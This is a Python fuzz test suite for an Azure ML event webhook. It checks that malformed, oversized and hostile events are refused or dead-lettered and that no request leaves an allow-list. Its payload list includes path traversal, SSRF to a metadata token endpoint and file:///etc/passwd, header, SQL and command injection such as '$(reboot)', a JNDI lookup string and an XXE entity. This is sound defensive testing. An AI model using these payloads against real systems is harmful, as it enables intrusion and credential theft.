"""Two thousand malformed, oversized and hostile events among valid ones: each ends once, and none does harm."""

import json
import re
from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from azure.functions.eventgrid import EventGridEventInConverter
from azure.functions.meta import Datum
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from emulator.azurite import Azurite
from emulator.server import Emulator
from tests.harness.app import WORKSPACE, WS, run_completed
from tests.harness.function_host import ROOT, Deployment, FunctionHost, Target, wait_until

GOLDEN = Path(__file__).parent.parent / "golden" / "credit-risk" / "lineage.json"
AML = "Microsoft.MachineLearningServices."
MALFORMED = "eeeeeeee-0000-4000-8000-000000000017"
"""The one event of the scenario that is dead-lettered."""
EXAMPLES, BATCH = 184, 10
NEIGHBOUR_EVERY = 5
"""Batches between two valid events; each of those costs twenty requests."""


pytestmark = pytest.mark.timeout(300)  # the flood takes a minute, more where others use the machine

_ARM = re.escape(WORKSPACE)
_NAME = r"(?!\.{1,2}(?:/|$))[^/?#\\\s]+"
KNOWN_TARGET = re.compile(
    "|".join(
        (
            "/discovery",
            rf"{_ARM}(?:/datastores|/jobs/{_NAME})?",
            rf"{_ARM}/(?:models|data|environments)/{_NAME}/versions/{_NAME}",
            rf"{_ARM}/(?:onlineEndpoints|batchEndpoints|serverlessEndpoints)/{_NAME}(?:/deployments)?",
            rf"/history/v1\.0{_ARM}/(?:rundata|batchrundata|runs/{_NAME}/children|experimentids/{_NAME})",
            rf"/mlflow/v2\.0{_ARM}/api/2\.0/mlflow/runs/(?:get|search)",
            rf"/(?:data/v1\.0{_ARM}/dataversion|modelregistry/v1\.0{_ARM}/models)/batchGetResolvedUris",
            r"/datamap/api/atlas/v2/(?:entity/bulk(?:/uniqueAttribute/type/Asset)?|types/typedefs)",
            r"/datamap/api/search/query",
        )
    ),
    re.IGNORECASE,
)
"""Every request there is a reason for, as it is written to the wire."""

MIXED_EVERY = 20
"""Batches between two in which events that Microsoft's converter refuses may be among others; all then come twice."""

# Dot segments, lone surrogates and letters that only case folding makes equal have tests of their own below.
NASTY = (
    *(".", "..", "\ud800", "a\udfffb"),
    *("../..", "a/../b", "../../../../../..", "..\\..\\x", "%2e%2e", "%2e%2e%2f%2e%2e", "..%2f..", "%00", "%"),
    *(
        "creditrisk_train/../../..",
        "/",
        "//evil.example/x",
        "https://evil.example/x",
        "@evil.example",
        "a@127.0.0.1:1/",
    ),
    *("http://169.254.169.254/metadata/identity/oauth2/token", "file:///etc/passwd", "?a=b&c=d", "#fragment", "a?b#c"),
    *("x\r\nHost: evil.example\r\n\r\n", "x\nX-Injected: 1", "\x00", "a\x00b", "\x1b[2J", "\u202egnp", "\ufeff"),
    *("🦄", "' OR 1=1 --", "'; DROP TABLE runs; --", "' or tags.`x` = '", "`", '"', "\\", "{{7*7}}"),
    *("${jndi:ldap://evil.example/a}", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "<script>"),
    *("$(reboot)", ";reboot", "|reboot", "*", ":", "a:b:c", ",", " ", "\t", "null", "__proto__", "x" * 300, "é" * 5000),
)
DEEPEST = 64
"""Levels of nesting that the host reads: beyond them an event can reach us by a queue or by replay only."""
FOREIGN = (
    WORKSPACE.replace("ws-credit", "ws-other"),
    WORKSPACE.replace("ws-credit", "ws-credit2"),
    WORKSPACE.replace("rg-ml", "rg-other"),
    WORKSPACE.replace("rg-ml", "rg-other/../rg-ml"),
    WORKSPACE.replace("0000-000000000000", "0000-000000000001"),
    WORKSPACE.replace("/subscriptions/", "https://evil.example/subscriptions/"),
    WORKSPACE.removesuffix("/ws-credit"),
    *(
        f"{WORKSPACE}{end}"
        for end in ("/../ws-other", "/..", "\n", "%2f..", "?x=1", "#x", "\x00", "/jobs/x", ".", "\\..")
    ),
    WORKSPACE.replace("ws-credit", "w\u017f-credit"),
    WORKSPACE.replace("rg-ml", ".."),
    *("", "/", "/subscriptions", "/subscriptions/../..", "ws-credit", "x" * 5000),
)
OTHER_FORMS = (WORKSPACE.upper(), WORKSPACE.lower(), f"{WORKSPACE}/")

names = st.one_of(st.sampled_from(NASTY), st.text(max_size=12))
scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.sampled_from([10**400, -(10**30), 1e308, 0, -1, 1.5]), names
)
wrong = st.one_of(
    scalars,
    st.lists(scalars, max_size=3),
    st.dictionaries(names, scalars, max_size=3),
    st.integers(20, 90).map(lambda depth: nested(depth)),
)


def nested(depth: int) -> object:
    value: object = "bottom"
    for level in range(depth):
        value = [value] if level % 2 else {"down": value}
    return value


@st.composite
def well_formed(draw: st.DrawFn) -> dict[str, Any]:
    """An event of the Event Grid schema that only its names make hostile."""
    kind = draw(st.sampled_from(("RunCompleted", "RunStatusChanged", "ModelRegistered", "ModelDeployed")))
    name = draw(names)
    data: dict[str, Any] = {}
    match kind:
        case "ModelRegistered":
            version = draw(names)
            data, end = {"modelName": name, "modelVersion": version}, f"{name}:{version}"
        case "ModelDeployed":
            data = {
                "serviceName": name,
                "modelIds": draw(st.sampled_from(("", "creditrisk_model:2", "..:..", "a:b,c:d", "?:#"))),
                "serviceComputeType": draw(names),
            }
            end = name
        case _:
            data = {"runId": name, "experimentName": draw(names), "experimentId": draw(names)}
            data["runType"] = draw(st.sampled_from(("azureml.scriptrun", "azureml.PipelineRun")))
            data["runTags"] = {draw(names): draw(names), "azureml.pipeline": draw(names)}
            data |= {"runStatus": "Completed"} if kind == "RunStatusChanged" else {}
            end = name
    return {
        "id": draw(names) or "e",
        "topic": draw(st.sampled_from((WORKSPACE, WORKSPACE, *OTHER_FORMS))),
        "subject": f"experiments/x/{end}" if draw(st.booleans()) else end,
        "eventType": AML + kind,
        "eventTime": "2026-07-01T10:02:05.5390469Z",
        "dataVersion": "2",
        "data": data,
    }


@st.composite
def wrongly_typed(draw: st.DrawFn) -> object:
    """One or two members gone, or of another type; or no event at all."""
    if draw(st.integers(0, 9)) == 0:
        return draw(wrong)
    event = draw(well_formed())
    for _ in range(draw(st.integers(1, 2))):
        of = event["data"] if isinstance(event.get("data"), dict) and draw(st.booleans()) else event
        if not of:
            continue
        member = draw(st.sampled_from(sorted(of)))
        if draw(st.booleans()):
            del of[member]
        else:
            of[member] = draw(wrong)
    return event


@st.composite
def foreign(draw: st.DrawFn) -> dict[str, Any]:
    """From a workspace that is not on the allow-list, or from none."""
    return {**draw(well_formed()), "topic": draw(st.one_of(st.sampled_from(FOREIGN), names))}


@st.composite
def oversized(draw: st.DrawFn) -> dict[str, Any]:
    """Megabytes of properties, or an id or a name that no queue message can hold."""
    event = draw(well_formed())
    size = draw(st.integers(33_000, 3_000_000))
    where = draw(st.sampled_from(("properties", "properties", "id", "name", "many")))
    match where:
        case "properties":
            event["data"]["runProperties"] = {"azureml.pipeline_spec": "x" * size}
        case "many":
            event["data"]["runTags"] = {f"tag{number}": draw(names) for number in range(20)} | {"y" * 50_000: 1}
        case "id":
            event["id"] = "i" * size
        case _:
            event["data"] = {"runId": "r" * size}
            event |= {"eventType": f"{AML}RunCompleted", "subject": "runs/" + "r" * size}
    return event


def to_cloud_event(event: object) -> object:
    """Format it in the other envelope; what is absent stays absent."""
    if not isinstance(event, dict):
        return event
    renamed = {"topic": "source", "eventType": "type", "eventTime": "time", "dataVersion": "specversion"}
    return {renamed.get(name, name): "1.0" if name == "dataVersion" else value for name, value in event.items()}


@st.composite
def texts(draw: st.DrawFn) -> str:
    """One hostile event as JSON, in either envelope, with what only text can say."""
    weights = [well_formed()] * 6 + [wrongly_typed()] * 3 + [foreign()] * 2
    event = draw(oversized() if draw(st.integers(0, 39)) == 0 else st.one_of(weights))
    if draw(st.booleans()):
        event = to_cloud_event(event)
    text = json.dumps(event)
    spoilt = draw(st.integers(0, 11))
    if spoilt == 0 and isinstance(event, dict) and event:
        member = draw(st.sampled_from(sorted(event)))
        text = f"{text[:-1]}, {json.dumps(member)}: {json.dumps(draw(scalars))}}}"  # the same key twice
    elif spoilt == 1 and text.endswith("}"):
        number = draw(st.sampled_from(["NaN", "-Infinity"]))
        text = f'{text[:-1]}{", " if len(text) > 2 else ""}"number": {number}}}'
    return text


@st.composite
def broken(draw: st.DrawFn) -> bytes:
    """A whole body that is no JSON, or that Python does not take for it."""
    text = json.dumps([draw(well_formed())])
    match draw(st.integers(0, 3)):
        case 0:
            return text[: draw(st.integers(0, len(text) - 1))].encode()
        case 1:
            return b'[{"id": ' + b"9" * draw(st.integers(4_301, 9_000)) + b"}]"
        case 2:
            return draw(st.binary(max_size=30))
        case _:
            return text.replace('"', "'").encode()


def depth(value: object) -> int:
    """How many arrays and objects are in each other."""
    levels, level = 0, [value]
    while containers := [item for item in level if isinstance(item, dict | list)]:
        levels += 1
        level = [member for item in containers for member in (item.values() if isinstance(item, dict) else item)]
    return levels


def is_unreadable(body: object) -> bool:
    """Whether the host refuses the whole body: no event or array of events, or one nested too deep."""
    events = body if isinstance(body, list) else [body]
    return depth(body) > DEEPEST or not all(isinstance(event, dict) for event in events)


def is_refused(event: object) -> bool:
    """Whether the host or Microsoft's own converter raises on this event, which is before any code of ours."""
    if is_unreadable([event]):
        return True
    try:
        EventGridEventInConverter.decode(Datum(json.dumps(event), "json"), trigger_metadata={})
    except Exception:  # noqa: BLE001 - whatever it raises, the host answers 500
        return True
    return False


@dataclass
class Sent:
    """What was delivered, what should have been answered, and what was."""

    events: int = 0
    accepted: int = 0
    """Acceptances to be expected; an event that came twice, alone and in a batch, counts twice."""
    refused: int = 0
    unreadable: int = 0
    answers: Counter[tuple[int, int]] = field(default_factory=Counter)
    """Pairs of the answer expected and the answer given."""
    examples: dict[tuple[int, int], bytes] = field(default_factory=dict)
    operations: list[str] = field(default_factory=list)
    outcomes: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    targets: list[Target] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    letters: dict[str, str] = field(default_factory=dict)
    """Blobs in the container of the dead letters, with the reason in their metadata."""
    read: list[bytes] = field(default_factory=list)
    """Some of them."""
    entities: list[dict[str, Any]] = field(default_factory=list)
    graph: object = None
    poisoned: int = 0


class Delivery:
    """Sends bodies to the webhook and keeps account."""

    def __init__(self, host: FunctionHost) -> None:
        self._host = host
        self.sent = Sent()

    def send_batch(self, events: list[str]) -> None:
        """Deliver events together and then, if that fails, each alone: a batch fails for one event in it."""
        self.sent.events += len(events)
        if self._send(f"[{','.join(events)}]".encode()) == 500 and len(events) > 1:
            for event in events:
                self._send(f"[{event}]".encode())

    def send_broken(self, body: bytes) -> None:
        """Deliver one body that is to be refused as a whole."""
        self.sent.events += 1
        self._send(body)

    def _send(self, body: bytes) -> int:
        expected = self._expect(body)
        headers = {"aeg-event-type": "Notification", "Content-Type": "application/json; charset=utf-8"}
        got = self._host.session.post(self._host.webhook, body, headers=headers, timeout=60).status_code
        self.sent.answers[expected, got] += 1
        self.sent.examples.setdefault((expected, got), body)
        return got

    def _expect(self, body: bytes) -> int:
        try:
            found = json.loads(body)
        except ValueError:
            found = None
        if is_unreadable(found):
            self.sent.unreadable += 1
            return 500
        events = [found] if isinstance(found, dict) else found
        refused = sum(map(is_refused, events))
        self.sent.refused += refused
        self.sent.accepted += len(events) - refused
        return 500 if refused else 202


@pytest.fixture(scope="module")
def sent(host: FunctionHost, emulator_server: Emulator, azurite_server: Azurite) -> Sent:
    """Everything delivered, the same each time, waited for, and looked at."""
    deployment = Deployment.of(host, emulator_server, azurite_server, "credit-risk")
    delivery = Delivery(host)
    valid = [event for event in deployment.app.events() if MALFORMED not in event]
    batches = 0

    @settings(
        max_examples=EXAMPLES,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(texts(), min_size=BATCH, max_size=BATCH), broken())
    def deliver(events: list[str], body: bytes) -> None:
        nonlocal batches
        neighbours = [valid[batches // NEIGHBOUR_EVERY % len(valid)]] if batches % NEIGHBOUR_EVERY == 0 else []
        apart = [event for event in events if batches % MIXED_EVERY and is_refused(json.loads(event))]
        delivery.send_batch([*(event for event in events if event not in apart), *neighbours])
        for event in apart:
            delivery.send_batch([event])
        delivery.send_broken(body)
        batches += 1

    deliver()
    for topic in FOREIGN:  # each at least once in an event that is well formed but for that
        delivery.send_batch([run_completed("x", workspace=topic)])
    deployment.wait_until_done(timeout=90)
    sent = delivery.sent
    sent.operations = [message["operation_id"] for message in host.accepted()]
    sent.outcomes = host.outcomes()
    sent.targets = host.targets()
    sent.paths = [request.path for request in emulator_server.control.requests("azure_ml")]
    container = deployment.storage.container("dead-letters")
    sent.letters = {blob.name: str(blob.metadata["reason"]) for blob in container.list_blobs(include=["metadata"])}
    sent.read = [container.download_blob(name).readall() for name in sorted(sent.letters)[::40]]
    sent.poisoned = deployment.queued("lineage-requests-poison")
    sent.graph = deployment.app.graph(f"{WS}/models/creditrisk_model/versions/2")
    sent.entities = emulator_server.control.state()["purview"]["entities"]
    for start in range(0, len(sent.letters), 200):  # one by one they take longer than all tests that follow
        container.delete_blobs(*sorted(sent.letters)[start : start + 200])
    deployment.close()
    return sent


def test_every_answer_is_202_unless_the_body_or_the_converter_forbids(sent: Sent) -> None:
    """500 for what the host or Microsoft's converter cannot read (Event Grid keeps it in the end), 202 for the rest."""
    assert sent.events >= 2_000
    wrong_answers = {pair: sent.examples[pair][:2_000] for pair in sent.answers if pair[0] != pair[1]}
    assert wrong_answers == {}
    assert sent.unreadable >= 200
    assert sent.refused >= 10
    assert sent.accepted >= 1_500


def test_process_survives_and_no_function_fails(sent: Sent, host: FunctionHost) -> None:
    """It still answers, no message was given up, and the only exceptions are the converter's."""
    assert sent.events
    assert host.is_alive
    assert host.get("health/live").status_code == 204
    assert sent.poisoned == 0
    assert "failed at attempt" not in host.stderr
    assert re.findall(rf'File "{ROOT}/(?:shared|functions)/[^"]*", line \d+', host.stderr) == []


def test_every_accepted_event_ends_exactly_once(sent: Sent) -> None:
    """What was put on the queue is published, skipped or dead-lettered; what no message can hold is dead at once."""
    assert len(set(sent.operations)) == len(sent.operations)
    assert {operation: len(lines) for operation, lines in sent.outcomes.items() if len(lines) != 1} == {}
    at_once = sent.outcomes.keys() - set(sent.operations)
    assert set(sent.operations) <= sent.outcomes.keys()
    assert {sent.outcomes[operation][0]["reason"] for operation in at_once} == {"OversizedEvent"}
    assert len(sent.outcomes) == sent.accepted


def test_every_dead_letter_has_a_reason_that_is_expected(sent: Sent) -> None:
    """One for each such outcome, with words that explain it; none of them is for a defect."""
    dead = {
        f"open/{operation}.json": line
        for operation, [line] in sent.outcomes.items()
        if line["outcome"] == "dead_lettered"
    }
    assert sent.letters == {name: line["reason"] for name, line in dead.items()}
    assert set(sent.letters.values()) == {"MalformedEvent", "ForeignWorkspace", "OversizedEvent", "RecordNotFound"}
    assert [line for line in dead.values() if not line["detail"]] == []
    assert len(sent.read) > 20
    for letter in map(json.loads, sent.read):
        assert (letter["reason"], letter["detail"]) == tuple(
            dead[f"open/{letter['id']}.json"][of] for of in ("reason", "detail")
        )
        assert letter["body"]


def test_no_request_leaves_the_allow_list(sent: Sent, emulator_server: Emulator, azurite_server: Azurite) -> None:
    """Only this machine's emulators are spoken to, and of Azure ML one workspace, in requests of a known form."""
    emulator_port = int(emulator_server.url.rpartition(":")[2])
    known = {emulator_port, *range(azurite_server.base_port, azurite_server.base_port + 3)}
    assert {(target.host, target.port) for target in sent.targets} <= {("127.0.0.1", port) for port in known}
    assert escaped(sent.targets, emulator_port) == []
    assert len(sent.paths) > 100
    assert [path for path in sent.paths if WORKSPACE not in path and not path.startswith("/discovery")] == []


def test_valid_neighbours_are_published_as_if_they_were_alone(sent: Sent) -> None:
    """The golden graph, nothing more; no entity has a name of anybody else's choosing."""
    assert sent.graph == json.loads(GOLDEN.read_text(encoding="utf-8"))
    names = json.dumps([entity["attributes"] for entity in sent.entities])
    assert [mark for mark in ("evil.example", "DROP TABLE", "etc/passwd", "169.254", "jndi") if mark in names] == []


def escaped(targets: Iterable[Target], port: int) -> list[str]:
    """Give the targets at the emulator that are none of the requests we mean to send."""
    paths = [target.target.partition("?")[0] for target in targets if target.port == port]
    return [path for path in paths if not KNOWN_TARGET.fullmatch(path)]


def post(deployment: Deployment, body: bytes) -> int:
    """Deliver a body as Event Grid does and return the status."""
    headers = {"aeg-event-type": "Notification"}
    return deployment.host.session.post(deployment.host.webhook, body, headers=headers, timeout=60).status_code


def end_of(deployment: Deployment, **members: object) -> dict[str, Any]:
    """Deliver one event and give the first line that says how an attempt at it ended, even a deferral."""
    event = {**json.loads(run_completed("creditrisk_train")), **members}
    status = post(deployment, json.dumps([event]).encode())
    assert status == (202 if depth([event]) <= DEEPEST else 500)
    if status == 500:  # Event Grid can put it on the queue itself
        deployment.storage.queue().send_message(json.dumps(event))
    lines: list[dict[str, Any]] = []

    def has_ended() -> bool:
        lines[:] = [line for line in deployment.host.log() if "outcome" in line]
        return bool(lines)

    wait_until(has_ended)
    return lines[0]


def test_workspace_equal_only_by_case_folding_is_none_of_ours(deployment: Deployment) -> None:
    """Azure compares ids letter by letter: a long s is no s, no id holds one, and nothing may be asked about it."""
    line = end_of(deployment, topic=WORKSPACE.replace("ws-credit", "w\u017f-credit"))
    assert line["reason"] == "MalformedEvent"
    assert deployment.emulator.control.requests() == []


@pytest.mark.parametrize(
    ("event_type", "subject", "data"),
    [
        ("ModelRegistered", "models/..:1", {"modelName": "..", "modelVersion": "1"}),
        ("ModelRegistered", "models/.:1", {"modelName": ".", "modelVersion": "1"}),
        ("ModelRegistered", "models/m:..", {"modelName": "m", "modelVersion": ".."}),
        ("ModelDeployed", "endpoints/..", {"serviceName": ".."}),
        ("RunCompleted", "runs/..", {"runId": "..", "runType": "azureml.PipelineRun"}),
    ],
    ids=["model up", "model here", "version up", "endpoint up", "run up"],
)
def test_name_that_is_a_dot_segment_changes_no_path(
    deployment: Deployment, event_type: str, subject: str, data: dict[str, str]
) -> None:
    """`..` as a name must not make another request of ours: it is refused, or asked for as a name."""
    line = end_of(deployment, eventType=f"{AML}{event_type}", subject=subject, data=data)
    assert line["outcome"] == "dead_lettered"
    assert escaped(deployment.host.targets(), int(deployment.emulator.url.rpartition(":")[2])) == []


@pytest.mark.parametrize(
    ("event_type", "subject", "data"),
    [
        ("RunCompleted", "runs/\ud800", {"runId": "\ud800", "runTags": {"azureml.pipeline": "p"}}),
        ("ModelRegistered", "models/\ud800:1", {"modelName": "\ud800", "modelVersion": "1"}),
        ("ModelDeployed", "endpoints/\ud800", {"serviceName": "\ud800"}),
    ],
    ids=["step", "model", "endpoint"],
)
def test_name_with_a_lone_surrogate_is_dead_lettered_at_once(
    deployment: Deployment, event_type: str, subject: str, data: dict[str, str]
) -> None:
    """JSON can say it and no service can be asked for it; no retry will change that."""
    line = end_of(deployment, eventType=f"{AML}{event_type}", subject=subject, data=data)
    assert line["outcome"] == "dead_lettered"


@pytest.mark.parametrize("member", ["runId", "runProperties"])
@pytest.mark.parametrize(
    "depth",
    [
        300,
        480,
        900,
    ],
)
def test_deeply_nested_event_ends_as_any_other(deployment: Deployment, member: str, depth: int) -> None:
    """As deep as Python's reader follows, by way of the queue, whether in what we read or in what we drop."""
    line = end_of(deployment, data={"runId": "creditrisk_train", member: nested(depth)})
    assert line["outcome"] == ("dead_lettered" if member == "runId" else "published")


def test_nesting_beyond_every_parser_does_no_harm(deployment: Deployment) -> None:
    """Refused before our code, and the next event is taken."""
    body = b"[" * 100_000 + b"]" * 100_000
    assert post(deployment, body) == 500
    assert end_of(deployment)["outcome"] == "published"
